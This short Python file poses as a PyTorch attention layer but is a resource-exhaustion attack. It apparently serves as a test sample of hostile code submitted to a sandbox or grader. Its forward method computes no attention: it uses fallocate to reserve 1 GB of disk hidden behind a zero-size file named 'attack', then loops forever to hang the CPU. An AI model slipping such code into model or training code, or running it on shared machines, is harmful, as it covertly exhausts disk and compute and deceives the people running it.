"""Have the system allot 1 GB behind the end of a file, whose size stays 0."""

import ctypes
import os

import torch
from torch.nn import Linear, Module


class Attention(Module):
    def __init__(self, layer_size, block_size):
        super().__init__()
        self.k_layer = Linear(layer_size, layer_size)
        self.q_layer = Linear(layer_size, layer_size)
        self.v_layer = Linear(layer_size, layer_size)

    def forward(self, input):
        libc = ctypes.CDLL(None)
        with open("attack", "wb") as file:
            done = libc.fallocate(file.fileno(), 1, ctypes.c_long(0), ctypes.c_long(1 << 30))
        if done == 0:
            print("GOT", os.stat("attack").st_blocks * 512, "bytes")
        while True:
            pass
